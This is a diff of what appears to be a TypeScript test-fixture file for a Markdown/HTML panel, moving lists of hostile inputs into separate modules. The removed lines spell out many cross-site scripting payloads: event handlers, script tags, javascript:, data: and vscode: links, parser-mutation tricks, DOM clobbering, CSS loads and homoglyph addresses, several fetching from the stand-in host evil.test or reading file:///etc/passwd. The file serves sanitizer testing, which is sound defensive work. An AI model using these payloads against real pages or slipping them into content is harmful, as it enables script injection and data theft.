@@ -1,3 +1,7 @@
+import { addressPlaces, disguises, hosts, lengths, schemes } from './hostileAddresses.ts';
+import { clobbering, encodings, events, loaders, mutations, ownScripts, spellings, styles } from './hostileMarkup.ts';
+import { hostileTexts } from './hostileText.ts';
+
 /**
  * What a hostile model or gateway could write to make the panel run, load or open something, generated family by family.
  * Whatever runs would set `window.pwned`; whatever loads would ask for an address at `evil.test`.
@@ -12,272 +16,6 @@ const cross = <A, B>(
   second: readonly B[],
   join: (a: A, b: B, index: number) => string,
 ): string[] => first.flatMap((a, row) => second.map((b, column) => join(a, b, row * second.length + column)));
-
-/** An element and the event that would run at once, or with the first touch. */
-const events: readonly (readonly [element: string, event: string])[] = [
-  ['img src=x', 'onerror'],
-  ['img src=x', 'onloadstart'],
-  ['svg', 'onload'],
-  ['body', 'onload'],
-  ['body', 'onpageshow'],
-  ['body', 'onhashchange'],
-  ['details open', 'ontoggle'],
-  ['video src=x', 'onerror'],
-  ['audio src=x', 'onerror'],
-  ['video autoplay', 'onloadstart'],
-  ['input autofocus', 'onfocus'],
-  ['textarea autofocus', 'onfocus'],
-  ['select autofocus', 'onfocus'],
-  ['a href=# tabindex=1', 'onfocusin'],
-  ['marquee', 'onstart'],
-  ['iframe', 'onload'],
-  ['object data=x', 'onerror'],
-  ['embed src=x', 'onload'],
-  ['link rel=stylesheet href=x', 'onerror'],
-  ['style', 'onload'],
-  ['script src=x', 'onerror'],
-  ['div style=animation:a', 'onanimationstart'],
-  ['div style=transition:all', 'ontransitionend'],
-  ['div contenteditable', 'onblur'],
-  ['div style=position:fixed;inset:0', 'onpointerover'],
-  ['div style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
-  ['dialog open', 'onclose'],
-  ['button popovertarget=p', 'onbeforetoggle'],
-  ['form', 'onformdata'],
-  ['svg><animate attributeName=x dur=1s', 'onbegin'],
-  ['svg><set attributeName=x', 'onend'],
-];
-
-/** Ways to write one, most of them wrong, all of them forgiven by some parser. */
-const spellings: readonly ((element: string, event: string) => string)[] = [
-  (element, event) => `<${element} ${event}=${run}>`,
-  (element, event) => `<${element.replaceAll(' ', '/')}/${event}="${run}">`,
-  (element, event) => `<${element.toUpperCase()}\n${event.toUpperCase()}\t=\f'${run}'//`,
-  (element, event) => `<${element} ${event}=&#119;indow.pwned&equals;1 x="`,
-  (element, event) => `"><${element} ${event}=\`${run}\`><"`,
-  (element, event) => `<\0${element} ${event}\0=${run}>`,
-];
-
-const ownScripts: readonly string[] = [
-  `<script>${run}</script>`,
-  `<SCRIPT\n>${run}</SCRIPT\n>`,
-  `<script src=${evil}/s.js></script>`,
-  `<script src=//evil.test/s.js async>`,
-  `<script type=module>import "${evil}/m.js"</script>`,
-  `<script nonce=panel>${run}</script>`,
-  `<script type=importmap>{"imports":{"x":"${evil}/x.js"}}</script>`,
-  `<script type=speculationrules>{"prefetch":[{"urls":["${evil}/p"]}]}</script>`,
-  `<<script>${run}//<</script>`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `</title></textarea></style></script><script>${run}</script>`,
-  `</main></body></html><script nonce="panel">${run}</script>`,
-  `<xml:script>${run}</xml:script>`,
-  `<script>/*\n\n*/${run}\n\n</script>`,
-];
-
-const schemes: readonly string[] = [
-  `javascript:${run}`,
-  'vbscript:Execute("x")',
-  `data:text/html,<script>parent.pwned=1</script>`,
-  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==',
-  'data:image/svg+xml,<svg/onload=parent.pwned=1>',
-  'command:workbench.action.terminal.new',
-  'command:workbench.action.openSettings?%5B%22x%22%5D',
-  'vscode:extension/evil.evil',
-  'vscode://evil.evil/run',
-  'vscode-insiders://evil.evil/run',
-  'vscode-webview://evil/index.html',
-  'vscode-resource://evil/x',
-  'vscode-file://vscode-app/etc/passwd',
-  'file:///etc/passwd',
-  'file://evil.test/share/x',
-  `blob:${evil}/0f0f0f0f`,
-  `filesystem:${evil}/temporary/x`,
-  `view-source:${evil}/`,
-  'about:srcdoc',
-  'chrome://settings',
-  `jar:${evil}/x!/y`,
-  'ftp://evil.test/x',
-  'ws://evil.test/x',
-  'tel:+100000000',
-  'sms:+100000000',
-  'ms-msdt:/id',
-  'search-ms:query=x&crumb=location:\\\\evil.test',
-  `intent://evil.test#Intent;scheme=https;end`,
-  '//evil.test/x',
-  '\\\\evil.test\\share',
-  '/relative',
-  '#app',
-  '?query',
-  'https:',
-  'https://',
-  'http://[::1',
-  'http:evil.test',
-];
-
-const entity = (text: string, write: (code: number) => string) => {
-  const at = text.indexOf(':');
-  return [...text.slice(0, at)].map((letter) => write(letter.charCodeAt(0))).join('') + text.slice(at);
-};
-
-/** Ways to hide a scheme from a check that reads letters. */
-const disguises: readonly ((address: string) => string)[] = [
-  (address) => address,
-  (address) => [...address].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join(''),
-  (address) => `${address.slice(0, 2)}\t${address.slice(2)}`,
-  (address) => `${address.slice(0, 2)}&Tab;${address.slice(2)}`,
-  (address) => `${address.slice(0, 2)}&NewLine;${address.slice(2)}`,
-  (address) => `${address.slice(0, 2)}\0${address.slice(2)}`,
-  (address) => `\u0001${address}`,
-  (address) => `&#x1F;&#32;${address}`,
-  (address) => entity(address, (code) => `&#${code};`),
-  (address) => entity(address, (code) => `&#x0000${code.toString(16)};`),
-  (address) => entity(address, (code) => `&#${code}`),
-  (address) => entity(address, (code) => `%${code.toString(16)}`),
-  (address) => entity(address, (code) => String.fromCharCode(code + 0xfee0)),
-  (address) => address.replace(':', '&colon;'),
-  (address) => address.replace(':', '%3A'),
-  (address) => address.replace(':', '\uFF1A'),
-  (address) => `\\${address}`,
-  (address) => `${address.slice(0, 1)}\u200B${address.slice(1)}`,
-  (address) => `\u202E${address}`,
-  (address) => `\uFEFF${address}`,
-];
-
-/** Where Markdown takes an address. */
-const addressPlaces: readonly ((address: string) => string)[] = [
-  (address) => `[a](${address})`,
-  (address) => `[a](<${address}> "title")`,
-  (address) => `[a][b]\n\n[b]: ${address}`,
-  (address) => `<${address}>`,
-  (address) => `![a](${address})`,
-  (address) => `[![a](${address})](${address})`,
-  (address) => `text ${address} text`,
-  (address) => `![a][b]\n\n[b]: <${address}> 'title'`,
-  (address) => `<a href="${address}">a</a>`,
-  (address) => `| [a](${address}) |\n|---|\n| <${address}> |`,
-];
-
-/** What would load or send something without a script. */
-const loaders: readonly string[] = [
-  `<img src=${evil}/i>`,
-  `<img srcset="${evil}/i 1x">`,
-  `<picture><source srcset=${evil}/i></picture>`,
-  `<video poster=${evil}/p src=${evil}/v></video>`,
-  `<audio src=${evil}/a autoplay>`,
-  `<track src=${evil}/t default>`,
-  `<iframe src=${evil}/f></iframe>`,
-  `<iframe srcdoc="<img src=${evil}/i><script>parent.${run}</script>"></iframe>`,
-  `<frameset><frame src=${evil}/f></frameset>`,
-  `<object data=${evil}/o type=text/html></object>`,
-  `<embed src=${evil}/e>`,
-  `<applet code=x codebase=${evil}/></applet>`,
-  `<link rel=stylesheet href=${evil}/s>`,
-  `<link rel=preload as=image href=${evil}/i>`,
-  `<link rel=prefetch href=${evil}/p>`,
-  `<link rel=dns-prefetch href=//evil.test>`,
-  `<link rel=preconnect href=${evil}>`,
-  `<link rel=manifest href=${evil}/m>`,
-  `<link rel=icon href=${evil}/i>`,
-  `<link rel=import href=${evil}/i>`,
-  `<base href=${evil}/>`,
-  `<base target=_top>`,
-  `<meta http-equiv=refresh content="0;url=${evil}/">`,
-  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
-  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
-  `<meta name=referrer content=unsafe-url>`,
-  `<form action=${evil}/><input name=q value=1><button autofocus>x</button></form>`,
-  `<button form=x formaction=javascript:${run}>x</button>`,
-  `<input type=image src=${evil}/i formaction=${evil}/f>`,
-  `<isindex action=javascript:${run} type=image>`,
-  `<a href=${evil}/ ping=${evil}/p>x</a>`,
-  `<a href=${evil}/ download>x</a>`,
-  `<area href=javascript:${run}>`,
-  `<table background=${evil}/b><td background=${evil}/b></table>`,
-  `<body background=${evil}/b>`,
-  `<svg><image href=${evil}/i /></svg>`,
-  `<svg><use href="${evil}/u#x"/></svg>`,
-  `<svg><feImage href=${evil}/f /></svg>`,
-  `<svg><script href=${evil}/s /></svg>`,
-  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
-  `<blockquote cite=javascript:${run}>x</blockquote>`,
-  `<portal src=${evil}/p></portal>`,
-  `<fencedframe src=${evil}/f></fencedframe>`,
-];
-
-/** What changes its meaning when it is parsed a second time, or in another namespace. */
-const mutations: readonly string[] = [
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
-  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
-  `<math href="javascript:${run}">x</math>`,
-  `<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
-  `<svg><foreignObject><iframe src=javascript:parent.${run}></foreignObject></svg>`,
-  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
-  `<svg><desc><template><style></desc><img src onerror=${run}></svg>`,
-  `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><script>&#119;indow.pwned=1</script></svg>`,
-  `<svg><animate attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`,
-  `<svg><handler type="text/javascript">${run}</handler></svg>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
-  `<noframes><style></noframes><img src=x onerror=${run}></style>`,
-  `<template><s><template><s><img src=x onerror=${run}>@</s></template></s></template>`,
-  `<template shadowrootmode=open><script>${run}</script></template>`,
-  `<div><template shadowrootmode=closed><slot onslotchange=${run}></slot></template>x</div>`,
-  `<textarea><img title="</textarea><img src onerror=${run}>"></textarea>`,
-  `<title><img title="</title><img src onerror=${run}>">`,
-  `<xmp><img title="</xmp><img src onerror=${run}>"></xmp>`,
-  `<plaintext><img src=x onerror=${run}>`,
-  `<listing>&lt;img src onerror=${run}&gt;</listing>`,
-  `<select><style></select><img src=x onerror=${run}></style>`,
-  `<select><template><img src onerror=${run}></template></select>`,
-  `<table><tr><td><svg><style><td title="</style><img src onerror=${run}>">`,
-  `<p><svg><p title="</p><img src onerror=${run}>">`,
-  `<!--><img src=x onerror=${run}>-->`,
-  `<!---><img src=x onerror=${run}>-->`,
-  `<!-- --!><img src=x onerror=${run}>-->`,
-  `<![CDATA[><img src=x onerror=${run}>]]>`,
-  `<?xml-stylesheet href="javascript:${run}"?>`,
-  `<!DOCTYPE x [<!ENTITY y SYSTEM "${evil}/e">]>&y;`,
-  `<!ENTITY x "<img src=x onerror=${run}>">&x;`,
-  `<x xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=javascript:${run}>x</x>`,
-  `<img alt="\`><img src=x onerror=${run}>">`,
-  `<img src="x\` \`<script>${run}</script>"\` \`>`,
-  `<a title="a&#10;b" href="&#1;javascript:${run}">x</a>`,
-  `<image src=x onerror=${run}>`,
-  `<br size="&{${run}}">`,
-  `<div id=a><a id=a name=b></a></div><iframe name=c srcdoc="<a id=d></a>">`,
-];
-
-const clobbering: readonly string[] = [
-  'app',
-  'body',
-  'head',
-  'documentElement',
-  'getElementById',
-  'createElement',
-  'cookie',
-  'location',
-  'defaultView',
-  'acquireVsCodeApi',
-  'postMessage',
-  'addEventListener',
-  'attributes',
-  'parentNode',
-  'children',
-  'nodeName',
-  '__proto__',
-  'currentScript',
-  'trustedTypes',
-  'scripts',
-].flatMap((name) => [
-  `<a id=${name} href=${evil}/>x</a><a id=${name} name=${name}>`,
-  `<form id=${name}><input name=${name}><img name=${name}></form>`,
-]);
 
 const prototypeNames = [
   '__proto__',
@@ -306,25 +44,6 @@ const namePlaces: readonly ((name: string) => string)[] = [
   (name) => `# ${name}\n\n- [${name}] ${name}`,
   (name) => `{"${name}": {"polluted": true}} {{${name}}} \${${name}}`,
   (name) => `&${name}; [a](${name}:${name}) <${name}:x>`,
-];
-
-const styles: readonly string[] = [
-  `<style>@import "${evil}/s";</style>`,
-  `<style>*{background:url(${evil}/b)}</style>`,
-  `<style>@font-face{font-family:x;src:url(${evil}/f)}*{font-family:x}</style>`,
-  `<style>input[value^=a]{background:url(${evil}/a)}</style>`,
-  `<style>main{display:none}</style>`,
-  `<div style="background:url(${evil}/b)">x</div>`,
-  `<div style="position:fixed;inset:0;z-index:9;background:red">x</div>`,
-  `<div style="behavior:url(${evil}/h)">x</div>`,
-  `<div style="-moz-binding:url(${evil}/x#y)">x</div>`,
-  `<div style="width:expression(${run})">x</div>`,
-  `<div style="x:\\65xpression(${run})">x</div>`,
-  `<div class="trouble error codeBlock iconButton">x</div>`,
-  `<p style="--vscode-font-family:url(${evil}/v)">x</p>`,
-  '# x {style="position:fixed" onclick="window.pwned=1" .error #app}',
-  '| a |\n|:-:{style=color:red}|\n| b |',
-  '```css\n@import url(https://evil.test/s);\n* { background: url(javascript:window.pwned=1) }\n```',
 ];
 
 const unseen = [
@@ -362,31 +81,6 @@ const unseenPlaces: readonly ((letter: string) => string)[] = [
   (letter) => `**${letter}a${letter}** \`if (${letter}admin) {\` ${letter}<img src=x onerror=${run}>`,
 ];
 
-const hosts: readonly string[] = [
-  'https://аpple.com/',
-  'https://xn--pple-43d.com/',
-  'https://gооgle.com/',
-  'https://evil.test\u2044github.com/',
-  'https://github.com@evil.test/',
-  'https://github.com%2F@evil.test/',
-  'https://github.com:443@evil.test:8443/',
-  'https:evil.test',
-  'https:\\\\evil.test\\x',
-  'https:///evil.test',
-  'http://0x7f.1/',
-  'http://2130706433/',
-  'http://127.0.0.1\u3002x/',
-  'http://①②⑦.⓪.⓪.①/',
-  'https://evil。test/',
-  'https://ⓔⓥⓘⓛ.test/',
-  'https://evil.test\u00AD.com/',
-  'https://EVIL.test:443/%2e%2e/',
-  'mailto:a@evil.test?cc=b@evil.test&body=x%0D%0Ay',
-  'mailto:"<script>"@evil.test',
-  'https://evil.test/?q=\\"><script>',
-  'https://evil.test/#\u202Egnp',
-].flatMap((host) => [`[a](${host})`, `<${host}>`, `see ${host} now`]);
-
 const brokenText: readonly string[] = [
   '\uD800',
   '\uDC00',
@@ -405,43 +99,6 @@ const brokenText: readonly string[] = [
   'Z\u0300\u0301\u0302\u0303\u0304'.repeat(40),
   '\uFDFD'.repeat(50),
 ].flatMap((text) => [`${text} **${text}**`, `[${text}](${evil}/${text})`, `\`\`\`${text}\n${text}\n\`\`\``]);
-
-const lengths: readonly string[] = [
-  `[a](${evil}/${'x'.repeat(8_100)})`,
-  `[a](${evil}/${'x'.repeat(9_000)})`,
-  `[a](${evil}/${'%'.repeat(5_000)})`,
-  `[${'a'.repeat(5_000)}](${evil}/)`,
-  `[a](${evil}/ "${'t'.repeat(5_000)}")`,
-  `<${evil}/${'y'.repeat(9_000)}>`,
-  `\`\`\`${'l'.repeat(5_000)} ${'f'.repeat(5_000)}\ncode\n\`\`\``,
-  `[a]: ${evil}/${'z'.repeat(9_000)}\n\n[a]`,
-  `https://${'a.'.repeat(200)}test/`,
-  `[a](javascript:${' '.repeat(3_000)}${run})`,
-];
-
-/** Ways to write markup so that something that decodes text once too often makes tags of it. */
-const encodings: readonly string[] = [
-  `&lt;img src=x onerror=${run}&gt;`,
-  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
-  `&#60;img src=x onerror=${run}&#62;`,
-  `&#x3C;img src=x onerror=${run}&#x3E;`,
-  `&#0000060img src=x onerror=${run}&#0000062`,
-  `&LT;img src=x onerror=${run}&GT;`,
-  `%3Cimg src=x onerror=${run}%3E`,
-  `%253Cimg src=x onerror=${run}%253E`,
-  `\\u003cimg src=x onerror=${run}\\u003e`,
-  `\\x3cimg src=x onerror=${run}\\x3e`,
-  `\\74img src=x onerror=${run}\\76`,
-  `+ADw-img src=x onerror=${run}+AD4-`,
-  `\uFF1Cimg src=x onerror=${run}\uFF1E`,
-  `\u02C2img src=x onerror=${run}\u02C3`,
-  `\u226Eimg src=x onerror=${run}\u226F`,
-  `<\u0307img src=x onerror=${run}>`,
-  `\xC0\xBCimg src=x onerror=${run}>`,
-  `\\<img src=x onerror=${run}\\>`,
-  `<\\img src=x onerror=${run}>`,
-  `&#55296;&#x110000;&#0;&#xD800;<img src=x onerror=${run}>`,
-];
 
 /** What Markdown puts around a text. */
 const frames: readonly ((text: string) => string)[] = [
@@ -484,6 +141,7 @@ const families: Readonly<Record<string, readonly string[]>> = {
   'broken text': brokenText,
   lengths,
   encodings: framed(encodings),
+  mixed: hostileTexts,
 };
 
 /** Distinct payloads by family. */
